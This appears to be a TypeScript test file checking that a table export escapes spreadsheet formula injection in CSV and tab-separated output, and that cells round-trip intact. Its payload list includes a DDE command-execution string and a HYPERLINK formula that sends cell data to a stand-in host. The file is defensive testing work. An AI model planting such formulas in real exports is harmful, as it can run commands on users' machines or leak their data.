// A table of entries opens in a spreadsheet as text, whatever an entry says and however the spreadsheet cuts its lines.
import { describe, expect, it } from 'vitest'
import { cellOf, rowsOfTable, tableText } from '../../src/domain/table-file.js'

const SIGNS = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '\t=', '\r=']
const HARM = [
  '1+1',
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://evil.example?"&A1,"x")',
  '2+3',
  'SUM(1;2)',
  '@x',
  '"quoted"',
  'A1,B1',
]
const BEFORE = ['', "'", 'words;', 'words\n', 'words;\t', 'words; ', "it's;'", 'a\r\n', '";', ',";']
const payloads = SIGNS.flatMap(sign => HARM.flatMap(harm => BEFORE.map(before => `${before}${sign}${harm}`)))
const kind = [
  'سلام',
  "it's",
  '- a list\n- of two',
  '۵۰٪ off; more',
  'a, b; c',
  '"so"',
  ' \n x',
  '-',
  "'",
  "don't; '- x",
  'a\n\n- b',
]

/** The cells of a program that separates by `sign` and knows nothing of ours: quotes count at the beginning of a cell. */
function opened(text: string, sign: string): string[] {
  const cells: string[] = []
  let at = text.startsWith('\uFEFF') ? 1 : 0
  while (at < text.length) {
    let cell = ''
    if (text[at] === '"') {
      for (at++; at < text.length; at++) {
        if (text[at] === '"' && text[at + 1] !== '"') break
        if (text[at] === '"') at++
        cell += text[at]
      }
      at++
    }
    while (at < text.length && text[at] !== sign && text[at] !== '\n' && text[at] !== '\r') cell += text[at++]
    cells.push(cell)
    at++
  }
  return cells
}

describe('a table of entries', () => {
  it.each([',', '\t'] as const)('has no formula where cells end at %j, at ; or at a break in a cell', written => {
    expect(payloads.length).toBeGreaterThanOrEqual(100)
    for (const payload of payloads) {
      const text = tableText([['id', payload, 'end']], written)
      for (const sign of [written, ';'])
        for (const cell of opened(text, sign))
          expect(cell.trimStart(), `${payload} cut at ${sign}`).not.toMatch(/^([=+@＝＋＠]|[-－](?! \p{L}))/u)
    }
  })

  it.each([',', '\t'] as const)('gives back what was written (%j)', sign => {
    for (const cell of [...payloads, ...kind]) {
      const rows = rowsOfTable(
        tableText(
          [
            ['id', 'x', 'z'],
            ['1', cell, 'end'],
          ],
          sign,
        ),
      )
      if ('reason' in rows) throw new Error(rows.reason)
      expect(rows[1]?.cells.map(cellOf), cell).toEqual(['1', cell.replace(/\r\n?/g, '\n'), 'end'])
    }
  })

  it('leaves lists in Markdown alone', () => {
    expect(tableText([['- one\n- دو']], ',')).toContain('"- one\n- دو"')
  })
})
